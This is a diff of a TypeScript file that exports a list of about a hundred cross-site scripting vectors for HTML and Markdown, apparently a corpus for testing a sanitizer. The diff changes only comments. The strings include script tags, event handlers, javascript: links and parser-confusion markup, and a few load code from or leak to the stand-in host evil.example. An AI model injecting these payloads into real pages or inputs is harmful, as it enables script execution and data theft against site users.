@@ -1,9 +1,10 @@
 /**
- * A hundred known ways of making HTML or Markdown run a script, load something or lead away, each calling `alert(1)` where it can. They are of the kinds that
- * OWASP and PortSwigger list: elements, attributes, schemes and their encodings, markup that parsers read differently, and Markdown's own links.
+ * A hundred known ways to make HTML or Markdown run a script, load something or lead away, most of them calling
+ * `alert(1)`. They are of the kinds that OWASP and PortSwigger list: elements, attributes, schemes and their
+ * encodings, ambiguous markup, and Markdown links.
  */
 export const xssVectors: readonly string[] = [
-  // Scripts, however written.
+  // Script elements in all spellings.
   '<script>alert(1)</script>',
   '<SCRIPT>alert(1)</SCRIPT>',
   '<script src=//evil.example/x.js></script>',
@@ -21,7 +22,7 @@ export const xssVectors: readonly string[] = [
   '\0<script>alert(1)</script>',
   '<scr\0ipt>alert(1)</script>',
   '\ufeff<script>alert(1)</script>',
-  // Handlers of events.
+  // Event handlers.
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror="alert(1)"',
   '<img/src=x/onerror=alert(1)>',
@@ -58,7 +59,7 @@ export const xssVectors: readonly string[] = [
   '<strong contenteditable onblur=alert(1)>x</strong>',
   '<em/onclick=alert(1)>x</em>',
   '<blockquote onpointerenter=alert(1)>x</blockquote>',
-  // Addresses that run.
+  // URLs that run scripts.
   '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href=" javascript:alert(1)">x</a>',
@@ -97,7 +98,7 @@ export const xssVectors: readonly string[] = [
   '<style>@import "//evil.example/x.css";</style>',
   '<style>*{background:url(//evil.example/?leak)}</style>',
   '<div style="position:fixed;inset:0">x</div>',
-  // What one parser closes and another does not.
+  // Markup that parsers close differently.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
   '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
@@ -114,7 +115,7 @@ export const xssVectors: readonly string[] = [
   "<a href='x'onclick='alert(1)'>x</a>",
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '\u003cimg src=x onerror=alert(1)\u003e',
-  // Markdown's own.
+  // Markdown.
   '[x](javascript:alert(1))',
   '[x](JAVASCRIPT:alert(1))',
   '[x](javascript&colon;alert(1))',
